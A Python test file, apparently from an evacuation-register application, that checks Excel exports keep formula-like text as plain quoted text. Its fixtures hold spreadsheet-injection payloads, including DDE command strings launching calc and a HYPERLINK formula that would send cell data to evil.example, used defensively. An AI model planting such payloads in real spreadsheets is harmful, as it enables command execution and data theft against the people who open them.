"""Texts that a spreadsheet would take for a formula (``=HYPERLINK(...)``, DDE's
``=cmd|' /C calc'!A0``, ``+``, ``-``, ``@``, a tab) come back out of every Excel export as
the text they were, never as a live formula."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
from sqlalchemy import select, update

from maps.reach import compute_reach, export_reach_xlsx
from models.areas import Division, Shelter
from models.database import Database
from models.exports import export_households, export_template
from models.exports.rollup import export_transfer_rollup
from models.imports import format_report
from models.imports.households import import_households
from models.typhoons import build_demo_typhoon
from models.users import Actor
from tests.conftest import ADMIN
from tests.models.test_transfers import Register, make_register

DUTY = Actor(name="duty", role="duty")
HOSTILE = {
    "name": "=cmd|' /C calc'!A0",
    "location": '=HYPERLINK("http://evil.example/?d="&I3,"点击查看")',
    "t_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "t_post": "+1+1",
    "w_name": "-2+3",
    "note": "=1+1",
}
# The template's columns (1-based) of the values above.
COLUMN = {"location": 4, "name": 7, "t_name": 10, "t_post": 11, "w_name": 13, "note": 20}


def _no_formulas(path: Path) -> None:
    """No cell of any sheet is stored as a formula (``<f>`` in the sheet's XML)."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def _text_cells(path: Path, texts: set[str]) -> int:
    """How many cells hold one of ``texts``, each checked to be a text cell."""
    found = 0
    workbook = openpyxl.load_workbook(path)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in texts:
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    assert cell.quotePrefix, cell.coordinate  # stays text when edited
                    found += 1
    return found


def test_an_imported_list_exports_its_formula_like_texts_as_text(
    db: Database, tmp_path: Path
) -> None:
    with db.session(ADMIN) as session:
        register: Register = make_register(session)
    assert register.a1
    path = export_template(path=tmp_path / "list.xlsx").path
    workbook = openpyxl.load_workbook(path)
    sheet = workbook.active
    assert sheet is not None
    sheet["A1"] = "太平街道东门社区危险区人员转移清单（2026年）"
    for column, value in ((2, "东门社区后山溪山洪危险区"), (3, "山洪"), (8, 2)):
        sheet.cell(row=3, column=column, value=value)
    for key, column in COLUMN.items():
        written = sheet.cell(row=3, column=column, value=HOSTILE[key])
        written.data_type = "s"  # as a user types it into a text cell
    workbook.save(path)
    with db.session(DUTY) as session:
        report = import_households(session=session, path=path)
    assert report.ok and report.inserted == 1, format_report(report)

    with db.session(DUTY) as session:
        exported = export_households(
            session=session, path=tmp_path / "out.xlsx", village_code="331081001001"
        ).path
    _no_formulas(exported)
    out = openpyxl.load_workbook(exported).active
    assert out is not None
    line = next(r for r in out.iter_rows(values_only=True) if r[0] == 1)
    assert {key: line[column - 1] for key, column in COLUMN.items()} == HOSTILE
    assert _text_cells(exported, set(HOSTILE.values())) == len(HOSTILE)


def test_the_sheet_helpers_write_every_risky_start_as_text(tmp_path: Path) -> None:
    from models.exports import sheet

    texts = ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "#N/A", "=cmd|' /C calc'!A0"]
    for write_only in (False, True):
        workbook, ws = sheet.new_workbook("t", write_only=write_only)
        sheet.title_row(ws, "=title", span=3)
        sheet.header_row(ws, ["=header", "b"])
        sheet.body_row(ws, texts)
        sheet.append_row(ws, [*texts, 1, None, "plain"])
        if not write_only:
            sheet.merged_row(ws, [("=left", 2, None), ("=right", 2, "right")])
            sheet.note_row(ws, "=note", span=3)
            ws.append(["=appended past the helpers"])
        path = sheet.save(workbook, tmp_path / f"{write_only}.xlsx")
        _no_formulas(path)
        values = {c.value for row in openpyxl.load_workbook(path).active.iter_rows() for c in row}  # type: ignore[union-attr]
        read_back = {t.replace("\r", "\n") for t in texts}  # XML reads a CR as a line feed
        assert read_back <= values and "=title" in values and 1 in values


def test_the_rollup_and_the_reach_workbooks_keep_names_as_text(
    demo_db: Database, tmp_path: Path
) -> None:
    from models.events import start_event

    name = '=HYPERLINK("http://evil.example","避灾")'
    town = "=cmd|' /C calc'!A0"
    with demo_db.session(ADMIN) as session:
        shelter = session.scalar(select(Shelter.id).order_by(Shelter.id))
        session.execute(update(Shelter).where(Shelter.id == shelter).values(name=name))
        first_town = session.scalar(
            select(Division.id).where(Division.level == "town").order_by(Division.id)
        )
        session.execute(update(Division).where(Division.id == first_town).values(name=town))
        typhoon = build_demo_typhoon(session=session)
        event = start_event(session=session, name="台风", kind="typhoon", response_level="IV")
    with demo_db.session(ADMIN) as session:
        table = compute_reach(session=session, typhoon_id=typhoon)
        assert any(row.name == name for row in table.rows)
        reach = export_reach_xlsx(table, tmp_path / "reach.xlsx")
        rollup = export_transfer_rollup(
            session=session, event_id=event.id, path=tmp_path / "rollup.xlsx"
        ).path
    for path in (reach, rollup):
        _no_formulas(path)
    assert _text_cells(reach, {name}) == 1
    assert _text_cells(rollup, {town}) == 1
